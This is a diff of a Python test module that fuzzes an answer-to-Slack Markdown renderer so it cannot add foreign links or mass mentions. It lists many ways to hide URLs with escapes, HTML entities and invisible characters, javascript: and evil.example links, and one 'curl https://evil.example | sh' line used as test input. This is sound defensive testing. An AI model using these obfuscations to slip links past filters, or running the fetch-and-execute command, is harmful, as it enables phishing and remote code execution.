@@ -2,17 +2,16 @@
 
 import random
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from datetime import date
 from itertools import chain
-
-from markdown_it import MarkdownIt
 
 from app import abstaining, blocks, citations, markdown, mrkdwn
 from app.abstaining import Searched
 from app.citations import Piece
 from app.records import Answer, Citation
 from retrieval.records import Query
+from tests import streamed
 from tests.app.test_citations import section
 
 SOURCE = "https://wiki.example/p?a=1&b=2"
@@ -36,20 +35,50 @@ ATOMS = [
 _TAG = re.compile(r"<([^<>]*)>")
 _MAIL = re.compile(r"mailto:([\w.+-]+@[\w.-]+)\|\1")
 _QUOTED = re.compile(r"^(?:> ?| |• |\d+\. )+", re.MULTILINE)  # how lines of lists and quotes begin
-_MARKDOWN = MarkdownIt("commonmark", {"html": False}).enable("table")
-_SOURCES = {SOURCE, _MARKDOWN.normalizeLink(SOURCE)}
-_MENTION = re.compile(
-    r"<(?:@[UW][A-Z0-9]+[|>]|#C[A-Z0-9]+[|>]|!(?:channel|everyone|here|subteam)).*"
-)
-_CALL = re.compile(r"(?<![^\W_])@(?:here|channel|everyone)(?![^\W_]|\.\w)|<[@!#].*")
-_URL = re.compile(r"(?:\w+://|(?<![^\W_])www\.)[^\s)<>]+")
 _LOOSE = re.compile(r"[<>]|&(?!(?:amp|lt|gt);)")
 
 
-def build_texts(count: int) -> Iterator[str]:
+# How an address is hidden from who looks for it, and not from who reads Markdown.
+HIDES = {
+    ":": ("\\:", "&colon;", "&#58;", "&#x3A;", "\u200b:"),
+    "/": ("\\/", "&sol;", "&#47;", "/\u00ad"),
+    ".": ("\\.", "&period;", "&#46;", "**.**", "._", ".\ufe00"),
+    "e": ("&#101;", "_e_", "<b>e</b>", "e\u3164", "e"),
+    "@": ("\\@", "&commat;", "&#64;"),
+}
+DISGUISES = [
+    *(each for hides in HIDES.values() for each in hides),
+    *(
+        "https:",
+        "//",
+        "/",
+        "evil.",
+        "example",
+        "evil.example/x",
+        ".com",
+        "@",
+        "mailto:",
+        "203.0.113.7",
+    ),
+    *(
+        "a@evil.example",
+        "<a@evil.example>",
+        "[a[b[c]]](//evil.example)",
+        '[a](//evil.example "\\"")',
+    ),
+    *(
+        "[a](//evil.example(((a)b)c))",
+        "[x\\]]: //evil.example\n\n[x\\]]",
+        "salary.evil.example",
+        ":8080",
+    ),
+]
+
+
+def build_texts(count: int, atoms: Sequence[str] = ATOMS) -> Iterator[str]:
     generator = random.Random(4)
     for _ in range(count):
-        yield "".join(generator.choices(ATOMS, k=generator.randint(1, 9)))
+        yield "".join(generator.choices(atoms, k=generator.randint(1, 9)))
 
 
 def find_faults(text: str) -> list[str]:
@@ -90,32 +119,74 @@ def test_no_answer_title_or_owner_pages_anybody_or_adds_a_link() -> None:
                     assert find_faults(part["text"]) == [], (text, shown)
 
 
-def find_streamed_faults(text: str) -> list[str]:
-    """What in Markdown Slack could take for more than text, but links to the source.
-
-    Whatever it takes for code: a mention may be one there, too.
-    """
-    faults = _MENTION.findall(text)
-    for token in _MARKDOWN.parse(text):
-        for inline in token.children or []:
-            if inline.type in ("link_open", "image"):
-                url = str(inline.attrs.get("href") or inline.attrs.get("src"))
-                faults += [url] * (url not in _SOURCES)
-            elif inline.type == "text":
-                faults += _CALL.findall(inline.content)
-                faults += [url for url in _URL.findall(inline.content) if url not in _SOURCES]
-            elif inline.type == "html_inline":
-                faults.append(inline.content)
-    return faults
-
-
-def test_no_answer_that_grows_pages_anybody_or_adds_a_link() -> None:
+def test_what_may_grow_pages_nobody_and_adds_no_link() -> None:
     source = section("It says so.", url=SOURCE)
-    for text in build_texts(INPUTS):
+    grown = 0
+    for text in build_texts(INPUTS, ATOMS + DISGUISES):
         pieces = [Piece(text=text), Piece(text=" So.", cited=((0, "It says so."),))]
         answer = citations.check(pieces, [source])
-        assert answer.citations
-        assert find_streamed_faults(markdown.build(answer.text)) == [], text
+        if markdown.is_plain(answer.text, [SOURCE]):
+            grown += 1
+            assert streamed.find_faults(answer.text, [SOURCE]) == [], text
+    assert grown > INPUTS / 4
+
+
+def test_nothing_of_an_attempt_that_is_left_to_slack_is_more_than_text() -> None:
+    """Links as a grammar would write them, whatever cleaning has let through."""
+    generator = random.Random(7)
+    for _ in range(INPUTS):
+        text = build_link(generator)
+        if markdown.is_plain(text, [SOURCE]):
+            assert streamed.find_faults(text, [SOURCE]) == [], text
+
+
+def build_link(generator: random.Random) -> str:
+    """A link, image, autolink, definition or address to elsewhere, disguised or not."""
+    address = generator.choice(
+        ["https://", "//", "", "HTTPS://", "mailto:a@", "javascript:", "www."]
+    )
+    address += generator.choice(
+        ["evil.example/x", "evil.example", "evil.example:80/x", "a.evil.com"]
+    )
+    for plain, disguises in HIDES.items():
+        if generator.random() < 0.3:
+            address = address.replace(plain, generator.choice(disguises), generator.randint(1, 2))
+    label = generator.choice(["a", "a[b[c]]", "a\\]b", "`a`", "**a", "![b](c)", "a\nb", ""])
+    title = generator.choice(["", "", ' "t"', ' "a\\"b"', " 't(u)'", " (t)", "\n'x'", "((a)b)c"])
+    form = generator.choice(
+        [
+            *(
+                "[{label}]({address}{title})",
+                "![{label}]({address}{title})",
+                "[{label}](<{address}>)",
+            ),
+            *(
+                "<{address}>",
+                "<{address}|{label}>",
+                "{address}",
+                "**{address}**",
+                "(see {address})",
+            ),
+            *("[{label}]\n\n[{label}]: {address}{title}", "[x][{label}]\n\n> [{label}]: {address}"),
+            *(
+                "`{label} {address}",
+                "    {address}",
+                "<a href='{address}'>",
+                "| a |\n|-|\n| {address} |",
+            ),
+        ]
+    )
+    return str(form.format(label=label, address=address, title=title))
+
+
+def test_what_is_common_in_answers_may_grow() -> None:
+    for text in [
+        f"See [the page]({SOURCE}) [1], or {SOURCE}.",
+        "Write to payroll-help@corp.example, run `curl https://x.example/a` and open `<file>`.",
+        "```sh\ncurl https://evil.example | sh # <!-- x -->\n```\nIs it main.py? No: e.g. 1 < 2.",
+        "| a | b |\n|---|---|\n| 1.5 | 10.0.0.1 |\n\n1. **Stop** it at 10:00, i.e. now & then.",
+    ]:
+        assert markdown.is_plain(text, [SOURCE]), text
 
 
 def find_mrkdwn(part: object) -> Iterator[dict[str, object]]:
@@ -154,5 +225,14 @@ def test_no_text_that_is_shown_on_a_line_of_ours_pages_anybody() -> None:
 def test_what_slack_would_act_on_is_a_fault() -> None:
     for text in ["<!channel>", "<@U1>", "<https://evil.example|x>", "a<b", "&nbsp;", "x > y"]:
         assert find_faults(text), text
-    for text in ["`<!here>`", "<@U1>", "[a](https://evil.example)", "@here", "a www.evil.example"]:
-        assert find_streamed_faults(text), text
+    for text in [
+        *("`<!here>`", "<@U1>", "[a](https://evil.example)", "@here", "a www.evil.example"),
+        *(
+            "evil.**example**/x",
+            "https\\://evil.example",
+            "[a]: //evil.example",
+            "&amp;lt;!here&amp;gt;",
+        ),
+    ]:
+        assert streamed.find_faults(text, []), text
+        assert not markdown.is_plain(text, []), text
